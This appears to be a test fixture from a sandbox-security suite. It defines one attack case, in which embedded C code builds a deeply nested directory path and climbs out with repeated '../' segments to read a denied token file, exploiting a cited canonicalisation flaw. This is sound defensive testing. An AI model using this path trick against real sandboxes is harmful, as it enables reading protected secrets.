import { type Attack, c, leaked } from '../attack.js'

export const attack: Attack = {
  id: 'filesystem/deep-path',
  tries: 'to reach a denied file through a path longer than the kernel takes at once',
  source: 'CVE-2026-50549: canonicalisation fails, the unchecked path is used',
  rules: { 'w/closed': 'deny' },
  tree: { 'w/closed/token': '$TOKEN' },
  program: c`
int main(void) {
  char name[201];
  memset(name, 'd', 200);
  name[200] = 0;
  if (chdir(var("S")) != 0) refused("chdir");
  for (int i = 0; i < 30; i++)
    if (mkdir(name, 0755) != 0 || chdir(name) != 0) refused("mkdir");
  char up[4096] = "";
  for (int i = 0; i < 31; i++) strcat(up, "../");
  strcat(up, "closed/token");
  show_path(up);
}`,
  succeeded: leaked,
  control: 'plain',
}
